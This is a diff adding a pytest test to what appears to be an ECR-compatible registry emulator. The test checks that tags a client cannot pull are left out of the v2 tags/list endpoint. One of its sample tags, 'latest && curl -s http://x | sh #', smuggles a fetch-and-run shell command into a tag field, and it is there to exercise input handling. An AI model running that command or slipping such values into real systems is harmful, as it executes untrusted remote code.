@@ -13,7 +13,8 @@ import requests
 from botocore.exceptions import ClientError
 
 from conftest import Server
-from support.ecr import push_headers
+from support import images
+from support.ecr import pull_headers, push_headers, push_image_via_api, put_manifest
 from support.registry import error_codes
 
 NUL_CALLS: list[tuple[str, dict[str, Any], str]] = [
@@ -107,3 +108,26 @@ def test_body_cut_off_mid_patch_keeps_the_session(server: Server, repository: st
     assert patched.headers["Range"] == f"0-{len(data) - 1}"
     log = server.log.read_text()
     assert "Error handling request" not in log
+
+
+def test_tags_v2_cannot_address_are_left_out_of_tags_list(server: Server, repository: str) -> None:
+    """PutImage takes any 1-300 characters as a tag (the model's rule); tags/list shows
+    only the tags a client can then pull, so `skopeo sync` and friends never trip."""
+    ecr = server.ecr()
+    image = images.oci_image(7301, n_layers=1)
+    push_image_via_api(ecr, repository, image, tag="v1")
+    odd = ["latest && curl -s http://x | sh #", "sha256:" + "a" * 64, "a b", "../x", "-dash"]
+    for tag in odd:
+        put_manifest(ecr, repository, image.manifest, tag=tag, media_type=image.media_type)
+    described = ecr.describe_image_tags(repositoryName=repository)["imageTagDetails"]
+    assert {d["imageTag"] for d in described} == {"v1", *odd}
+    listed = requests.get(
+        f"{server.v2(repository)}/tags/list", headers=pull_headers(server, repository)
+    )
+    assert listed.status_code == 200
+    assert listed.json()["tags"] == ["v1"]
+    paged = requests.get(
+        f"{server.v2(repository)}/tags/list?n=1", headers=pull_headers(server, repository)
+    )
+    assert paged.json()["tags"] == ["v1"]
+    assert "Link" not in paged.headers
